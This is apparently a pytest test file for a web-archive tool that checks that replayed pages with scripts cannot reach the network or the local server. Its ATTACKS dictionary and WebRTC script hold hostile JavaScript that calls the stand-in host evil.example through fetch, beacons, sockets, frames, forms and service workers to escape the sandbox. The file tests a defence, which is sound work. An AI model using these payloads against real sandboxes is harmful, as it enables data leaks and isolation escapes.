"""Captured pages with their scripts, by ReplayWeb.page on the second origin: they run there, and nothing leaves the machine or reaches the room."""

from __future__ import annotations

import gzip
import socket
from collections.abc import Iterator
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from warcio.archiveiterator import ArchiveIterator

from archive.archive import Archive
from archive.errors import UsageError
from archive.room.scripted import NEEDED, Player, records
from tests.rigs import replay
from tests.rigs.browsing import Requests, chromium, served
from tests.rigs.history import STORY
from tests.rigs.room_world import RoomWorld, article, media, png
from tests.room.test_hostile_browser import arrived
from tests.standin.web import Reply

pytestmark = pytest.mark.slow  # starts programs

EVIL = "http://evil.example"
PICTURE, STYLE, SCRIPT, BEHIND = (
    f"https://imgpai.thepaper.cn/{name}" for name in ("p.png", "s.css", "s.js", "b.png")
)
OWN = f'<link rel=stylesheet href="{STYLE}"><img id=p src="{PICTURE}"><script src="{SCRIPT}"></script>'
NATIVE = "const f=document.createElement('iframe');document.body.append(f);const w=f.contentWindow;"
ATTACKS = {
    "requests": f"""
        const tries = [() => fetch('{EVIL}/f', {{mode: 'no-cors'}}), () => navigator.sendBeacon('{EVIL}/b', 'x'),
            () => new WebSocket('ws://evil.example/w'), () => new EventSource('{EVIL}/e'), () => {{ new Image().src = '{EVIL}/i' }},
            () => {{ const x = new XMLHttpRequest(); x.open('GET', '{EVIL}/x'); x.send() }},
            () => document.head.append(Object.assign(document.createElement('script'), {{src: '{EVIL}/s.js'}})),
            () => document.head.append(Object.assign(document.createElement('link'), {{rel: 'stylesheet', href: '{EVIL}/c.css'}})),
            () => document.head.append(Object.assign(document.createElement('link'), {{rel: 'prefetch', href: '{EVIL}/p'}})),
            () => new Worker(URL.createObjectURL(new Blob(["fetch('{EVIL}/worker');importScripts('{EVIL}/import')"]))),
            () => import('{EVIL}/m.js'), () => {{ document.body.style.background = 'url({EVIL}/bg)' }}];
        for (const attempt of tries) {{ try {{ attempt() }} catch (error) {{}} }}""",
    "requests behind the rewriting": NATIVE + f"""
        const tries = [() => w.fetch('{EVIL}/f'), () => new w.WebSocket('ws://evil.example/w'), () => {{ new w.Image().src = '{EVIL}/i' }},
            () => w.navigator.sendBeacon('{EVIL}/b'), () => w.eval("fetch('{EVIL}/v')"), () => new w.EventSource('{EVIL}/e'),
            () => w.document.write("<img src='{EVIL}/w'><script src='{EVIL}/w.js'></scr" + "ipt><iframe src='{EVIL}/w'></iframe>")];
        for (const attempt of tries) {{ try {{ attempt() }} catch (error) {{}} }}""",
    "the room": NATIVE + """
        for (const from of [self, w]) { try { from.fetch('ROOM', {mode: 'no-cors'}) } catch (error) {} new from.Image().src = 'ROOMstyle.css' }
        f.src = 'ROOM'; window.open('ROOM'); try { top.location = 'ROOM' } catch (error) {}""",
    "the window": f"try {{ top.location.href = '{EVIL}/top' }} catch (error) {{}}; try {{ parent.parent.location = '{EVIL}/parent' }} catch (error) {{}}",
    "the frame": NATIVE + f"w.location = '{EVIL}/inner'; document.defaultView.location.assign('{EVIL}/self'); w.eval(\"parent.location = '{EVIL}/native'\")",
    "another window": f"window.open('{EVIL}/open'); const a = document.createElement('a'); a.href = '{EVIL}/a'; a.target = '_blank'; document.body.append(a); a.click()",
    "a form": f"const o = document.createElement('form'); o.action = '{EVIL}/form'; o.target = '_top'; document.body.append(o); o.submit()",
    "frames": f"document.body.insertAdjacentHTML('beforeend', \"<iframe src='{EVIL}/i'></iframe><iframe srcdoc=\\\"<script>fetch('{EVIL}/srcdoc')</scr\" + \"ipt><img src='{EVIL}/pic'>\\\"></iframe><object data='{EVIL}/o'></object><embed src='{EVIL}/e'>\")",
    "a page of its own making": f"""const inner = '<script>new WebSocket("ws://evil.example/w");fetch("{EVIL}/f");new Image().src="{EVIL}/i"</scr' + 'ipt>';
        const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([inner], {{type: 'text/html'}})); document.body.append(f);""",
    "the service worker": f"navigator.serviceWorker.getRegistrations().then(all => all.map(each => each.unregister())); navigator.serviceWorker.register('{EVIL}/sw.js'); fetch('/scripts/sw.js')",
}  # fmt: skip


def page_with(number: int, markup: str) -> tuple[str, Reply, dict[str, str]]:
    story = replace(STORY, cont_id=5_730_000 + number)
    body = f"<html><head><title>题</title></head><body><h1>题</h1>{markup}<p>{STORY.text[0]}</p></body></html>"
    return article(story, Reply(body=body.encode()))


def archive_of(folder: Path, *markups: str) -> list[str]:
    """An archive with these pages, and the files of the first; gives their captures."""
    world = RoomWorld(folder)
    style = f"h1{{background:url({BEHIND});color:rgb(1,2,3)}}".encode()
    files = [
        media(PICTURE, png(), "image/png"),
        media(STYLE, style, "text/css"),
        media(SCRIPT, b"document.title = 'RAN';", "text/javascript"),
        media(BEHIND, png(7, 7), "image/png"),
        media("https://imgpai.thepaper.cn/other.png", png(9, 9), "image/png"),
    ]
    world.crawl(0, *(page_with(number, markup) for number, markup in enumerate(markups)), *files)
    world.index()
    with Archive(folder) as archive:
        rows = archive.connection.execute("SELECT id FROM captures WHERE role = 'article' ORDER BY url")  # fmt: skip
        return [str(row[0]) for row in rows]


@pytest.fixture(scope="module")
def program(pytestconfig: pytest.Config) -> Path:
    assert pytestconfig.cache
    folder = replay.program(pytestconfig.cache.mkdir("replaywebpage"))
    if folder is None:
        pytest.skip("ReplayWeb.page is not here and npm cannot fetch it")
    return folder


def test_the_file_has_the_records_of_the_page_and_of_all_that_it_loads(tmp_path: Path) -> None:
    [capture] = archive_of(tmp_path, OWN)

    with Archive(tmp_path) as archive:
        data = b"".join(records(archive, capture))

    urls = [record.rec_headers.get_header("WARC-Target-URI") for record in ArchiveIterator(BytesIO(data))]  # fmt: skip
    assert sorted(urls[1:]) == sorted([PICTURE, STYLE, SCRIPT, BEHIND])
    assert urls[0].endswith("5730000") and gzip.decompress(data).startswith(b"WARC/1.")


@pytest.mark.parametrize("missing", NEEDED)
def test_files_that_are_not_there_are_named(missing: str, tmp_path: Path) -> None:
    for name in NEEDED:
        if name != missing:
            (tmp_path / name).write_text("")

    with pytest.raises(UsageError, match=f"has no {missing}; give the folder of the npm package"):
        Player(tmp_path)


@pytest.fixture
def evil() -> Iterator[socket.socket]:
    """A host that nothing may ask."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def opened(context: Any, room: str, capture: str) -> tuple[Any, str]:
    """The page of a capture with its scripts, by way of the room, and the second origin."""
    page = context.new_page()
    page.goto(f"{room}capture/{capture}")
    page.goto(page.locator("text=Show the page as captured").first.get_attribute("href"))
    page.click("text=with its scripts")
    return page, f"http://{urlsplit(page.url).netloc}/"


@pytest.mark.browser
def test_a_page_runs_with_its_own_files(tmp_path: Path, program: Path) -> None:
    [capture] = archive_of(tmp_path, OWN)
    words = ("--replayweb", str(program))
    with served(tmp_path, *words) as room, chromium(locale="en-US") as context:
        asked = Requests(context)
        page, _ = opened(context, room, capture)
        frame = replay._frame(page, "5730000")
        frame.wait_for_function("document.title === 'RAN'")
        frame.wait_for_function("document.querySelector('#p').naturalWidth === 40")
        assert frame.evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(1, 2, 3)"  # fmt: skip
        assert asked.outside == []


WEBRTC = (
    NATIVE
    + """
    for (const from of [self, w]) {
        const said = () => console.log('OFFERED');
        try {
            const peer = new from.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});
            peer.createDataChannel('x');
            peer.createOffer().then(offer => peer.setLocalDescription(offer)).then(said, said);
        } catch (error) { said() }
    }"""
)


@pytest.mark.browser
def test_no_packet_leaves_by_webrtc(tmp_path: Path, program: Path) -> None:
    """Chromium obeys `Connection-Allowlist` from 152 on, and ends a page that tries; other browsers do not."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as evil:
        evil.bind(("127.0.0.1", 0))
        evil.settimeout(30)
        script = f"<script>{WEBRTC.replace('PORT', str(evil.getsockname()[1]))}</script>"
        [capture] = archive_of(tmp_path, script)
        with served(tmp_path, "--replayweb", str(program)) as room, chromium() as context:
            written: list[str] = []
            context.on("console", lambda message: written.append(message.text))
            opened(context, room, capture)
            page = context.new_page()  # the other may be ended
            for _ in range(600):
                page.wait_for_timeout(100)
                if "OFFERED" in written:
                    break
            assert "OFFERED" in written
            page.wait_for_timeout(2000)
            evil.setblocking(False)
            with pytest.raises(BlockingIOError):
                evil.recv(2000)
            evil.settimeout(30)  # where nothing forbids it, the same script sends one
            page.set_content(f"<body>{script}")
            assert evil.recv(2000)


@pytest.mark.browser
def test_nothing_leaves_and_nothing_reaches_the_room(
    tmp_path: Path, folder: Path, program: Path, evil: socket.socket
) -> None:
    rule = f"--host-resolver-rules=MAP evil.example 127.0.0.1:{evil.getsockname()[1]}"
    words = ("--replayweb", str(program))
    with served(folder) as other:  # a room that a page may try to reach
        mark = "console.log('RAN');"
        markups = [f"<script>{mark}{script.replace('ROOM', other)}</script>" for script in ATTACKS.values()]  # fmt: skip
        captures = archive_of(tmp_path, *markups)
        with served(tmp_path, *words) as room, chromium(rule, locale="en-US") as context:
            ports = {urlsplit(room).port, urlsplit(other).port}
            reached: list[str] = []
            written: list[str] = []
            context.on("response", lambda response: reached.append(response.url))
            context.on("console", lambda message: written.append(message.text))
            for name, capture in zip(ATTACKS, captures, strict=True):
                page, origin = opened(context, room, capture)
                reached.clear()
                for _ in range(600):
                    page.wait_for_timeout(100)
                    if "RAN" in written:
                        break
                assert "RAN" in written, name
                page.wait_for_timeout(2000)
                assert page.url.startswith(origin), name
                assert not ports & {urlsplit(url).port for url in reached}, name
                assert arrived(evil) is None, name
                assert len(context.pages) == 1, name
                written.clear()
                page.close()
